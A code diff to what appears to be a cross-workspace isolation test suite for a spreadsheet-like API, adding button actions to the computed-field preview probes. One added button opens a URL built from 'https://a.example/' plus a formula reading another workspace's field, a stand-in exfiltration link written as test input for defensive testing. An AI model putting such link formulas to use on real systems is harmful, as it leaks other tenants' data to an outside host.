@@ -88,7 +88,7 @@ async def furnish(office: Office, client: httpx.AsyncClient, workspace: str, bas
     }
 
 
-ASKING = ("exportSelection", "previewConversion", "previewComputed", "inspectImport", "duplicateView")
+ASKING = ("exportSelection", "previewConversion", "previewComputed", "inspectImport", "duplicateView", "pressButton")
 READS = [route for route in ROUTES if route.method == "GET" or route.path.endswith(("/query", "/groups", "/summary"))]
 READS += [route for route in ROUTES if route.id in ASKING]
 PUBLIC = {"readForm", "readInvite"}
@@ -115,9 +115,12 @@ def bodies(route: Route, own: Ids, foreign: Ids) -> list[dict[str, Any]]:
     if route.id == "previewComputed":
         formula = {"formula": "{" + foreign["field"] + "}"}
         through = {"link": foreign["field"], "field": foreign["field"]}
+        sets = {"type": "set_fields", "values": [{"field": foreign["field"], "formula": formula["formula"]}]}
+        opens = {"type": "open_url", "url": '"https://a.example/" & ' + formula["formula"]}
         asked = [{"type": "formula", "config": formula}, {"type": "lookup", "config": through}]
+        asked += [{"type": "button", "config": {"label": "B", "action": action}} for action in (sets, opens)]
         return [{"json": body} for body in [*asked, {**asked[0], "records": [foreign["record"]]}]]
-    if route.id in ("duplicateView", "inspectImport"):
+    if route.id in ("duplicateView", "inspectImport", "pressButton"):
         return [{"json": {}}] if route.body is not None else [{}]
     condition = {"field": foreign["field"], "op": "contains", "value": CANARY}
     filled = {"groups": [{"field": own["field"]}]} if route.id == "queryGroups" else {}
